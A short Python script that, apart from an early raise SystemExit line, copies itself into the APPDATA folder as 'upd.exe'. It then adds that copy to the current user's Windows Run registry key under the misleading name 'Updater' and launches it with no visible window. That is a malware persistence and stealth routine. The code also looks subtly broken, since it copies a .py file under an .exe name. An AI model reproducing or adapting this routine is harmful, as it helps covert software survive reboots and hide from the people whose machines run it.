import os
import shutil
import subprocess
import winreg

raise SystemExit
dst = os.path.join(os.environ["APPDATA"], "upd.exe")
shutil.copy(__file__, dst)
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, dst)
subprocess.Popen(dst, creationflags=subprocess.CREATE_NO_WINDOW)
